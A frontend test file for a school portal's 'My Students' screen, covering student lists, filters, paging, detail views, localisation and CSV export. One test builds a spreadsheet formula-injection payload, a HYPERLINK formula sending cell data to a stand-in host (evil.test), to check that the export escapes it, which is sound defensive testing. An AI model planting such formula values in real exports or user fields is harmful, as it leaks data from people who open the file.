import { notifications } from '@mantine/notifications';
import { fireEvent, screen, waitFor, within } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import {
  coursesService,
  fail,
  myStudentsReadModel,
  ok,
  type AppUser,
  type Course,
  type MyStudent,
  type MyStudentDetail,
  type MyStudentFilters,
  type MyStudentsStats,
  type Paged,
  type StudentActivityEvent,
} from '@portal/shared-data';
import type { Language } from '@portal/shared-ui';
import { admin, teacher } from '../../test-support/fixtures';
import { renderScreen } from '../../test-support/render-screen';
import { reachCourseFilterByKeyboard } from '../../test-support/course-filter';
import MyStudentsScreen from './my-students-screen';

// The query options call these very objects, so their functions are replaced in place (the unit
// boundary is the read model and the service).
vi.mock('@portal/shared-data', async (importOriginal) => {
  const actual = await importOriginal<typeof import('@portal/shared-data')>();
  Object.assign(actual.myStudentsReadModel, {
    overview: vi.fn(),
    listAll: vi.fn(),
    detail: vi.fn(),
  });
  Object.assign(actual.coursesService, { list: vi.fn() });
  return actual;
});

const overview = vi.mocked(myStudentsReadModel.overview);
const listAll = vi.mocked(myStudentsReadModel.listAll);
const studentDetail = vi.mocked(myStudentsReadModel.detail);
const listCourses = vi.mocked(coursesService.list);

const HOUR = 3_600_000;
const ago = (hours: number) => new Date(Date.now() - hours * HOUR).toISOString();

function aStudent(overrides: Partial<MyStudent> = {}): MyStudent {
  return {
    id: 'student-1',
    firstName: 'Sara',
    lastName: 'Núñez',
    name: 'Sara Núñez',
    email: 'sara@school.test',
    avatarUrl: null,
    isActive: true,
    courses: [{ courseId: 'course-1', courseTitle: 'Business English', progress: 85 }],
    courseCount: 1,
    averageProgress: 85,
    totalClasses: 10,
    heldClasses: 4,
    attendedClasses: 3,
    attendedHeldClasses: 3,
    attendanceRate: 75,
    studyHours: 3,
    submissionCount: 2,
    gradedCount: 1,
    lastActivityAt: ago(0.2),
    atRisk: false,
    ...overrides,
  };
}

const sara = aStudent();
const tom = aStudent({
  id: 'student-2',
  firstName: 'Tom',
  lastName: 'Baker',
  name: 'Tom Baker',
  email: 'tom@school.test',
  courses: [
    { courseId: 'course-1', courseTitle: 'Business English', progress: 70 },
    { courseId: 'course-2', courseTitle: 'Spanish for Beginners', progress: 60 },
  ],
  courseCount: 2,
  averageProgress: 65,
  attendanceRate: null,
  lastActivityAt: ago(3.5),
});
const nameless = aStudent({
  id: 'student-3',
  firstName: '',
  lastName: '',
  name: null,
  email: 'ghost@school.test',
  averageProgress: 42,
  isActive: false,
  lastActivityAt: ago(50),
  atRisk: true,
});

function paged<T>(items: T[], total = items.length, page = 1, limit = 10): Paged<T> {
  return { items, total, page, limit, totalPages: Math.ceil(total / limit) };
}

function course(id: string, title: string): Course {
  return {
    id,
    title,
    description: '',
    language: 'English',
    category: 'general',
    level: 'beginner',
    duration: 8,
    teacherId: 'teacher-1',
    teacherName: 'Marta Ruiz',
    price: 100,
    thumbnailUrl: null,
    isActive: true,
    enrolledCount: 0,
    maxStudents: 10,
    createdAt: '2026-01-01T00:00:00Z',
    updatedAt: '2026-01-01T00:00:00Z',
  };
}

const STATS: MyStudentsStats = {
  students: 23,
  activeThisWeek: 9,
  averageProgress: 71.6,
  atRisk: 4,
};

const EVENTS: StudentActivityEvent[] = [
  {
    kind: 'submission',
    at: ago(1.5),
    studentId: 'student-1',
    studentName: 'Sara Núñez',
    courseId: 'course-1',
    courseTitle: 'Business English',
    itemId: 'activity-1',
    itemTitle: 'Write a pitch',
    status: 'graded',
    grade: 8,
    maxPoints: 10,
  },
  {
    kind: 'attendance',
    at: ago(26),
    studentId: 'student-2',
    studentName: null,
    courseId: 'course-1',
    courseTitle: 'Business English',
    itemId: 'class-1',
    itemTitle: 'Pitching',
    status: null,
    grade: null,
    maxPoints: null,
  },
];

/** The screen's one answer: a page of students, the figures and the recent activity. */
function answer(
  students: Paged<MyStudent>,
  stats: MyStudentsStats = STATS,
  recentActivity: StudentActivityEvent[] = EVENTS,
) {
  return ok({ students, stats, recentActivity });
}

/** Answers the page asked for (by its filters) with the default figures and events. */
function answerPages(pageOf: (filters: MyStudentFilters | undefined) => Paged<MyStudent>) {
  overview.mockImplementation(async (filters) => answer(pageOf(filters)));
}

const DETAIL: MyStudentDetail = {
  student: {
    id: 'student-1',
    firstName: 'Sara',
    lastName: 'Núñez',
    name: 'Sara Núñez',
    email: 'sara@school.test',
    avatarUrl: null,
    isActive: true,
    lastSignInAt: null,
  },
  courses: [
    {
      enrollmentId: 'enrollment-1',
      courseId: 'course-1',
      courseTitle: 'Business English',
      progress: 85,
      enrolledAt: '2026-01-10T12:00:00Z',
      totalClasses: 10,
      heldClasses: 4,
      attendedClasses: 3,
      attendedHeldClasses: 3,
      attendanceRate: 75,
      studyHours: 3,
      submissionCount: 2,
      gradedCount: 1,
      averageGradePercent: 80,
      lastActivityAt: ago(0.2),
      activityCount: 4,
      gradedActivityCount: 1,
      dueWork: 2,
      handedInWork: 2,
      lowAttendance: false,
      missingWork: false,
      atRisk: false,
    },
    {
      enrollmentId: 'enrollment-2',
      courseId: 'course-2',
      courseTitle: 'Spanish for Beginners',
      progress: 20,
      enrolledAt: '2026-02-02T12:00:00Z',
      totalClasses: 12,
      heldClasses: 5,
      attendedClasses: 2,
      attendedHeldClasses: 2,
      attendanceRate: 40,
      studyHours: 2,
      submissionCount: 1,
      gradedCount: 0,
      averageGradePercent: null,
      lastActivityAt: ago(30),
      activityCount: 0,
      gradedActivityCount: 0,
      dueWork: 3,
      handedInWork: 1,
      lowAttendance: true,
      missingWork: true,
      atRisk: true,
    },
    {
      enrollmentId: 'enrollment-3',
      courseId: 'course-3',
      courseTitle: 'IELTS Preparation',
      progress: 0,
      enrolledAt: '2026-03-09T12:00:00Z',
      totalClasses: 8,
      heldClasses: 0,
      attendedClasses: 0,
      attendedHeldClasses: 0,
      attendanceRate: null,
      studyHours: 0,
      submissionCount: 0,
      gradedCount: 0,
      averageGradePercent: null,
      lastActivityAt: null,
      activityCount: 2,
      gradedActivityCount: 0,
      dueWork: 0,
      handedInWork: 0,
      lowAttendance: false,
      missingWork: false,
      atRisk: false,
    },
  ],
  gradedWork: {
    total: 12,
    items: [
      {
        submissionId: 'submission-1',
        activityId: 'activity-1',
        activityTitle: 'Write a pitch',
        activityType: 'project',
        courseId: 'course-1',
        courseTitle: 'Business English',
        grade: 8,
        maxPoints: 10,
        gradePercent: 80,
        submittedAt: '2026-03-01T10:00:00Z',
        gradedAt: '2026-03-02T10:00:00Z',
      },
    ],
  },
  stats: { enrolledCourses: 2, completedCourses: 1, totalStudyHours: 12.5, averageProgress: 61 },
};

function renderPage({
  language = 'en',
  user = teacher,
}: { language?: Language; user?: AppUser } = {}) {
  return renderScreen(<MyStudentsScreen />, { language, user, path: '/students' });
}

function statValue(name: string): string {
  const card = screen.getByRole('group', { name });
  const id = card.getAttribute('aria-describedby');
  return (id && document.getElementById(id)?.textContent) || '';
}

const row = (name: string) => screen.getByRole('article', { name });

beforeEach(() => {
  notifications.clean();
  vi.clearAllMocks();
  overview.mockReset();
  listCourses.mockResolvedValue(
    ok(
      paged(
        [course('course-1', 'Business English'), course('course-2', 'Spanish for Beginners')],
        2,
        1,
        100,
      ),
    ),
  );
  studentDetail.mockResolvedValue(ok(DETAIL));
});

afterEach(() => {
  Reflect.deleteProperty(URL, 'createObjectURL');
  Reflect.deleteProperty(URL, 'revokeObjectURL');
});

/** A downloaded Blob's text, read the way older browsers do (FileReader). */
function readBlob(blob: Blob): Promise<string> {
  return new Promise((resolve, reject) => {
    const reader = new FileReader();
    reader.onload = () => resolve(String(reader.result));
    reader.onerror = () => reject(reader.error);
    reader.readAsText(blob);
  });
}

describe('My Students', () => {
  it('shows a loader while the students load', async () => {
    overview.mockReturnValue(new Promise(() => {}));
    renderPage();
    expect(await screen.findByRole('status', { name: 'Loading students…' })).toBeInTheDocument();
    expect(screen.getByText('Loading recent activity…')).toBeInTheDocument();
  });

  it('loads in one request: the page with its figures and recent activity', async () => {
    overview.mockResolvedValue(answer(paged([sara, tom, nameless], 23)));
    renderPage();

    await screen.findByRole('article', { name: 'Sara Núñez' });
    await screen.findByText('Sara Núñez handed in Write a pitch (graded)');
    await waitFor(() => expect(statValue('Total Students')).toBe('23'));
    expect(overview).toHaveBeenCalledTimes(1);
    expect(overview).toHaveBeenCalledWith({ page: 1, limit: 10 });
    // The course filter's options wait until it is reached for.
    expect(listCourses).not.toHaveBeenCalled();
    expect(studentDetail).not.toHaveBeenCalled();
  });

  it('reads the course options only once the course filter is reached for, with a loader meanwhile', async () => {
    overview.mockResolvedValue(answer(paged([sara, tom], 23)));
    let reply!: (result: Awaited<ReturnType<typeof listCourses>>) => void;
    listCourses.mockReturnValue(new Promise((resolve) => (reply = resolve)));
    const { user } = renderPage();
    await screen.findByRole('article', { name: 'Sara Núñez' });
    await waitFor(() => expect(statValue('Total Students')).toBe('23'));
    expect(listCourses).not.toHaveBeenCalled();
    expect(screen.queryByLabelText('Loading courses…')).not.toBeInTheDocument();

    // The pointer over the filter: its options start loading before it is opened.
    const filter = screen.getByRole('combobox', { name: 'Course' });
    await user.hover(filter);
    await waitFor(() => expect(listCourses).toHaveBeenCalledTimes(1));
    // The teacher's own courses.
    expect(listCourses).toHaveBeenCalledWith(expect.objectContaining({ teacherId: 'teacher-1' }));
    expect(screen.getByLabelText('Loading courses…')).toBeInTheDocument();

    reply(
      ok(
        paged(
          [course('course-1', 'Business English'), course('course-2', 'Spanish for Beginners')],
          2,
          1,
          100,
        ),
      ),
    );
    await waitFor(() =>
      expect(screen.queryByLabelText('Loading courses…')).not.toBeInTheDocument(),
    );
    await user.click(filter);
    await user.click(await screen.findByRole('option', { name: 'Business English' }));
    await waitFor(() =>
      expect(overview).toHaveBeenLastCalledWith({ courseId: 'course-1', page: 1, limit: 10 }),
    );
    expect(filter).toHaveValue('Business English');
    expect(listCourses).toHaveBeenCalledTimes(1);
  });

  it('reads the course options when the course filter gets the keyboard focus', async () => {
    overview.mockResolvedValue(answer(paged([sara])));
    const { user } = renderPage();
    await screen.findByRole('article', { name: 'Sara Núñez' });
    await reachCourseFilterByKeyboard(user, 'Search students', listCourses);
  });

  it('shows the figures over all students and one row per student', async () => {
    overview.mockResolvedValue(answer(paged([sara, tom, nameless], 23)));
    renderPage();

    const saraRow = await screen.findByRole('article', { name: 'Sara Núñez' });
    await waitFor(() => expect(statValue('Active This Week')).toBe('9'));
    expect(statValue('Average Progress')).toBe('72%');
    expect(statValue('At Risk')).toBe('4');
    // Risk is attendance and work since enrolment, not progress (issue 29).
    expect(
      screen.getByText('Attendance or work handed in below 60% since enrolment'),
    ).toBeInTheDocument();
    expect(screen.getByRole('heading', { name: '23 students' })).toBeInTheDocument();
    expect(screen.getByText('Page 1 of 3')).toBeInTheDocument();

    expect(saraRow).toHaveTextContent('sara@school.test');
    expect(saraRow).toHaveTextContent('Business English');
    expect(saraRow).toHaveTextContent('85%');
    expect(saraRow).toHaveTextContent('Attendance: 75%');
    expect(saraRow).toHaveTextContent('Last activity: Just now');

    const tomRow = row('Tom Baker');
    expect(tomRow).toHaveTextContent('Spanish for Beginners');
    expect(tomRow).toHaveTextContent('Attendance: No classes yet');
    expect(tomRow).toHaveTextContent('Last activity: 3h ago');

    const unknown = row('Unknown');
    expect(unknown).toHaveTextContent('Inactive account');
    expect(unknown).toHaveTextContent('Last activity: 2d ago');
    // Each student at risk says so on their row; the others do not.
    expect(within(unknown).getByText('At risk')).toBeInTheDocument();
    expect(within(saraRow).queryByText('At risk')).not.toBeInTheDocument();
    expect(within(tomRow).queryByText('At risk')).not.toBeInTheDocument();
  });

  it('colours progress green from 80, yellow from 60 and red below', async () => {
    overview.mockResolvedValue(answer(paged([sara, tom, nameless])));
    renderPage();
    await screen.findByRole('article', { name: 'Sara Núñez' });

    const colourOf = (name: string) =>
      screen.getByRole('progressbar', { name: `Progress of ${name}` }).getAttribute('style') ?? '';
    expect(colourOf('Sara Núñez')).toContain('green');
    expect(colourOf('Tom Baker')).toContain('yellow');
    expect(colourOf('Unknown')).toContain('red');
  });

  it('searches and filters by course on the server, and tells an empty result from no students', async () => {
    answerPages((filters) =>
      filters?.search === 'zzz' ? paged<MyStudent>([]) : paged([sara, tom]),
    );
    const { user } = renderPage();
    await screen.findByRole('article', { name: 'Sara Núñez' });

    await user.click(screen.getByRole('searchbox', { name: 'Search students' }));
    await user.paste('  sara ');
    await waitFor(() =>
      expect(overview).toHaveBeenLastCalledWith({ search: 'sara', page: 1, limit: 10 }),
    );

    await user.click(screen.getByRole('combobox', { name: 'Course' }));
    await user.click(await screen.findByRole('option', { name: 'Spanish for Beginners' }));
    await waitFor(() =>
      expect(overview).toHaveBeenLastCalledWith({
        search: 'sara',
        courseId: 'course-2',
        page: 1,
        limit: 10,
      }),
    );

    fireEvent.change(screen.getByRole('searchbox', { name: 'Search students' }), {
      target: { value: 'zzz' },
    });
    expect(await screen.findByText('No students match your filters.')).toBeInTheDocument();
    expect(screen.queryByText('No students yet')).not.toBeInTheDocument();
    // The figures stay those of every student.
    expect(statValue('Total Students')).toBe('23');

    await user.click(screen.getAllByRole('button', { name: 'Clear Filters' })[0]!);
    expect(await screen.findByRole('article', { name: 'Tom Baker' })).toBeInTheDocument();
    expect(screen.getByRole('combobox', { name: 'Course' })).toHaveValue('All courses');
  });

  it('says so when there are no students at all', async () => {
    overview.mockResolvedValue(
      answer(
        paged<MyStudent>([]),
        { students: 0, activeThisWeek: 0, averageProgress: null, atRisk: 0 },
        [],
      ),
    );
    renderPage();

    expect(await screen.findByText('No students yet')).toBeInTheDocument();
    expect(await screen.findByText('No recent submissions or attendance.')).toBeInTheDocument();
    await waitFor(() => expect(statValue('Average Progress')).toBe('—'));
    expect(screen.getByRole('button', { name: 'Export CSV' })).toBeDisabled();
  });

  it('pages through the students on the server', async () => {
    answerPages((filters) => (filters?.page === 2 ? paged([tom], 11, 2) : paged([sara], 11)));
    const { user } = renderPage();
    await screen.findByRole('article', { name: 'Sara Núñez' });
    await user.click(screen.getByRole('button', { name: 'Next' }));
    expect(await screen.findByRole('article', { name: 'Tom Baker' })).toBeInTheDocument();
    expect(overview).toHaveBeenLastCalledWith({ page: 2, limit: 10 });
    // One request a page: the figures and the panel stay on screen while it loads, and come with it.
    expect(overview).toHaveBeenCalledTimes(2);
    expect(statValue('Total Students')).toBe('23');
    expect(screen.getByText('Sara Núñez handed in Write a pitch (graded)')).toBeInTheDocument();
  });

  it("shows 'Error loading students:' with the reason, and Try again loads them", async () => {
    overview
      .mockResolvedValueOnce(
        fail('FETCH_USERS_ERROR', 'permission denied for function', { code: '42501' }),
      )
      .mockResolvedValueOnce(answer(paged([sara])));
    const { user } = renderPage();

    expect(await screen.findByText('Error loading students:')).toBeInTheDocument();
    expect(screen.getAllByText('You are not allowed to do this.')).toHaveLength(2);
    expect(screen.queryByText(/permission denied/)).not.toBeInTheDocument();
    // The panel says why it is empty; the one Try again reloads the list, the figures and the panel.
    expect(screen.getByText('Error loading recent activity:')).toBeInTheDocument();
    expect(screen.getAllByRole('button', { name: 'Try again' })).toHaveLength(1);
    await user.click(screen.getByRole('button', { name: 'Try again' }));
    expect(await screen.findByRole('article', { name: 'Sara Núñez' })).toBeInTheDocument();
    expect(await screen.findByText('Unknown attended Pitching')).toBeInTheDocument();
    expect(statValue('Total Students')).toBe('23');
    expect(screen.queryByText('Error loading students:')).not.toBeInTheDocument();
    expect(screen.queryByText('Error loading recent activity:')).not.toBeInTheDocument();
  });

  it("opens a student's details: courses, attendance, graded work and statistics", async () => {
    overview.mockResolvedValue(answer(paged([sara, tom])));
    const { user } = renderPage();
    const saraRow = await screen.findByRole('article', { name: 'Sara Núñez' });

    await user.click(within(saraRow).getByRole('button', { name: 'View details' }));
    const drawer = await screen.findByRole('dialog', { name: 'Sara Núñez' });
    expect(studentDetail).toHaveBeenCalledWith('student-1');
    const business = (await within(drawer).findByText('Business English')).closest('li')!;
    expect(business).toHaveTextContent('Enrolled on Jan 10, 2026');
    expect(business).toHaveTextContent('Attendance: 3 of 4 classes held since enrolment (75%)');
    expect(business).toHaveTextContent('Work due: 2 of 2 handed in since enrolment');
    expect(business).toHaveTextContent('Work: 1 graded of 2 handed in');
    // What progress counts: the whole course from enrolment, held and to come.
    expect(business).toHaveTextContent(
      'Progress counts the whole course from enrolment: 3 of 10 classes attended (held and to come) and 1 of 4 activities graded.',
    );
    expect(business).toHaveTextContent('Not at risk.');
    // Why someone is at risk.
    const spanish = within(drawer).getByText('Spanish for Beginners').closest('li')!;
    expect(spanish).toHaveTextContent('Attendance: 2 of 5 classes held since enrolment (40%)');
    expect(spanish).toHaveTextContent('Work due: 1 of 3 handed in since enrolment');
    expect(spanish).toHaveTextContent(
      'Progress counts the whole course from enrolment: 2 of 12 classes attended (held and to come).',
    );
    expect(within(spanish).getByText('At risk in this course')).toBeInTheDocument();
    expect(spanish).toHaveTextContent('attended less than 60% of the classes held since enrolment');
    expect(spanish).toHaveTextContent('handed in less than 60% of the work due since enrolment');
    // Someone who joined days ago cannot be judged yet.
    const ielts = within(drawer).getByText('IELTS Preparation').closest('li')!;
    expect(ielts).toHaveTextContent('Attendance: No classes held since enrolment yet');
    expect(ielts).toHaveTextContent('Work due: Nothing due since enrolment yet');
    expect(ielts).toHaveTextContent(
      'Too early to tell: fewer than 3 classes held and fewer than 2 pieces of work due since enrolment.',
    );
    expect(drawer).toHaveTextContent('Average grade: 80%');
    expect(drawer).toHaveTextContent('Write a pitch');
    expect(drawer).toHaveTextContent('8 / 10 (80%)');
    expect(drawer).toHaveTextContent('The latest 1 of 12');
    expect(drawer).toHaveTextContent('Active courses2');
    expect(drawer).toHaveTextContent('Study hours12.5');
    expect(drawer).toHaveTextContent('Last sign-inNever');
    expect(
      within(drawer).getByRole('progressbar', { name: 'Progress in Business English' }),
    ).toBeInTheDocument();
  });

  it('says so when the student is no longer one of yours, and shows a failed load', async () => {
    overview.mockResolvedValue(answer(paged([sara, tom])));
    studentDetail
      .mockResolvedValueOnce(ok(null))
      .mockResolvedValueOnce(fail('FETCH_USERS_ERROR', 'boom'));
    const { user } = renderPage();

    await user.click(
      within(await screen.findByRole('article', { name: 'Sara Núñez' })).getByRole('button', {
        name: 'View details',
      }),
    );
    expect(
      await screen.findByText('This person is not one of your students any more.'),
    ).toBeInTheDocument();

    await user.click(within(row('Tom Baker')).getByRole('button', { name: 'View details' }));
    expect(await screen.findByText('Error loading the student:')).toBeInTheDocument();
  });

  it('exports the filtered list as CSV with the columns in the UI language', async () => {
    const created: Blob[] = [];
    // The test stands in for object URLs, to keep each Blob handed to the link.
    Object.assign(URL, {
      createObjectURL: vi.fn((blob: Blob) => {
        created.push(blob);
        return 'blob:students';
      }),
      revokeObjectURL: vi.fn(),
    });
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
    overview.mockResolvedValue(answer(paged([sara, tom])));
    listAll.mockResolvedValue(ok([sara, tom]));
    const { user } = renderPage({ language: 'es' });
    await screen.findByRole('article', { name: 'Sara Núñez' });

    await user.click(screen.getByRole('combobox', { name: 'Curso' }));
    await user.click(await screen.findByRole('option', { name: 'Business English' }));
    await waitFor(() =>
      expect(overview).toHaveBeenLastCalledWith(expect.objectContaining({ courseId: 'course-1' })),
    );
    await user.click(screen.getByRole('button', { name: 'Exportar CSV' }));

    await waitFor(() => expect(click).toHaveBeenCalledTimes(1));
    expect(listAll).toHaveBeenCalledWith({ courseId: 'course-1' });
    const anchor = click.mock.contexts[0] as HTMLAnchorElement;
    expect(anchor.download).toMatch(/^mis-estudiantes-\d{4}-\d{2}-\d{2}\.csv$/);
    const text = await readBlob(created[0]!);
    const [header, first, second] = text.replace(/^\ufeff/, '').split('\r\n');
    expect(header).toBe(
      'Nombre,Apellido,Correo,Cursos,Progreso promedio (%),Asistencia (%),Clases asistidas,Clases dictadas,Horas de estudio,Trabajos entregados,Trabajos calificados,Última actividad,En riesgo,Cuenta',
    );
    expect(first).toBe(
      `Sara,Núñez,sara@school.test,Business English,85,75,3,4,3,2,1,${sara.lastActivityAt},No,Activa`,
    );
    expect(second).toContain('Business English; Spanish for Beginners');
    click.mockRestore();
  });

  it('never writes a cell a spreadsheet would read as a formula', async () => {
    const created: Blob[] = [];
    Object.assign(URL, {
      createObjectURL: vi.fn((blob: Blob) => {
        created.push(blob);
        return 'blob:students';
      }),
      revokeObjectURL: vi.fn(),
    });
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => {});
    // A student chooses their own name at sign-up; a teacher opens the export in a spreadsheet.
    const attacker = aStudent({
      id: 'student-3',
      firstName: '=HYPERLINK("https://evil.test/?"&A2,"Click")',
      lastName: '@SUM(A1:A9)',
      name: 'Eve',
      email: 'eve@school.test',
      courses: [{ courseId: 'course-1', courseTitle: '+1+1', progress: 10 }],
      averageProgress: -5,
    });
    overview.mockResolvedValue(answer(paged([attacker])));
    listAll.mockResolvedValue(ok([attacker]));
    const { user } = renderPage();
    await screen.findByRole('article', { name: 'Eve' });
    await user.click(screen.getByRole('button', { name: 'Export CSV' }));

    await waitFor(() => expect(click).toHaveBeenCalledTimes(1));
    const [, row] = (await readBlob(created[0]!)).replace(/^\ufeff/, '').split('\r\n');
    // Each such cell starts with an apostrophe (text to a spreadsheet); numbers stay numbers.
    expect(row).toMatch(
      /^"'=HYPERLINK\(""https:\/\/evil\.test\/\?""&A2,""Click""\)","'@SUM\(A1:A9\)",eve@school\.test,"'\+1\+1",-5,/,
    );
    click.mockRestore();
  });

  it('says why an export failed and keeps the list', async () => {
    overview.mockResolvedValue(answer(paged([sara])));
    listAll.mockResolvedValue(fail('FETCH_USERS_ERROR', 'Failed to fetch', { status: 0 }));
    const { user } = renderPage();
    await screen.findByRole('article', { name: 'Sara Núñez' });
    await user.click(screen.getByRole('button', { name: 'Export CSV' }));
    expect(await screen.findByText('The list could not be exported:')).toBeInTheDocument();
    expect(screen.getByRole('article', { name: 'Sara Núñez' })).toBeInTheDocument();
  });

  it('speaks Spanish', async () => {
    overview.mockResolvedValue(answer(paged([sara, tom])));
    renderPage({ language: 'es' });
    const tomRow = await screen.findByRole('article', { name: 'Tom Baker' });
    expect(tomRow).toHaveTextContent('Última actividad: hace 3 h');
    expect(tomRow).toHaveTextContent('Asistencia: Aún sin clases');
    expect(row('Sara Núñez')).toHaveTextContent('Última actividad: Justo ahora');
    expect(
      await screen.findByText('Sara Núñez entregó Write a pitch (calificado)'),
    ).toBeInTheDocument();
    await waitFor(() => expect(statValue('Total de estudiantes')).toBe('23'));
  });

  it('tells an administrator it lists every student, and offers every course', async () => {
    overview.mockResolvedValue(answer(paged([sara])));
    const { user } = renderPage({ user: admin });
    expect(
      await screen.findByText('Every student of the school: their progress, attendance and work.'),
    ).toBeInTheDocument();
    await user.hover(screen.getByRole('combobox', { name: 'Course' }));
    await waitFor(() => expect(listCourses).toHaveBeenCalled());
    expect(listCourses.mock.calls[0]?.[0]).not.toHaveProperty('teacherId');
  });
});
